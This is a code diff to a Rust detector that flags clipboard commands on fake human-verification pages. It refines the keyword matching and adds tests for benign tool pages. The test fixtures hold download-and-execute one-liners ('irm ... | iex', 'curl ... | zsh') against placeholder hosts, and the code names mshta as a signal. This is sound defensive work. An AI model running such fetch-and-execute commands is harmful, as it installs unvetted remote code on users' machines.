@@ -2384,10 +2384,23 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
         && (told
             || verify > 0.0
             || !page.flat.bytes().any(|b| b.is_ascii_alphanumeric() || b > 127)
-            || has_any(
-                &page.flat,
-                "moment captcha robot human humain humano umano mensch checking お待ち робот",
-            )
+            // (Whole words, and a moment only as a wait: a tool's "Robotics SDK", "Ressources
+            // humaines" or "Ready in a moment." are no check: review 42 CF42-M1.)
+            || has_any(&page.flat, "captcha checking お待ち робот")
+            || "robot roboter robotem human humain humano umano mensch"
+                .split(' ')
+                .any(|w| has_word(&page.flat, w))
+            || [
+                "just a moment",
+                "one moment",
+                "wait a moment",
+                "un moment",
+                "einen moment",
+                "un momento",
+                "um momento",
+            ]
+            .iter()
+            .any(|p| has(&page.flat, p))
             // (A device "verification" page of an MDM may copy its agent from a CDN over https:
             // the bare word only with a bare IP or plain http, or for mshta and the like, which
             // no vendor copies.)
@@ -2577,6 +2590,23 @@ mod tests {
                 "https://tool.example/",
                 &["Just a moment", "Copy"],
                 "irm https://relay.test/i.ps1 | iex",
+            ),
+            // A tool's terse page whose installer comes from a release host: its words hold a
+            // check word only inside another word (review 42 CF42-M1).
+            (
+                "https://sdk.gearlab.example/",
+                &["GearLab Robotics SDK", "Copy"],
+                "curl -fsSL https://releases.cdn-host.example/gearlab/setup | zsh",
+            ),
+            (
+                "https://cli.tallyhq.example/",
+                &["Tally CLI. Ready in a moment.", "Copy"],
+                "curl -fsSL https://releases.cdn-host.example/tally/setup | zsh",
+            ),
+            (
+                "https://rh.exemple.fr/",
+                &["Ressources humaines : outil", "Copier"],
+                "curl -fsSL https://releases.cdn-host.example/rh/setup | zsh",
             ),
         ] {
             assert!(!on(url, parts, clip), "{url} {clip}");
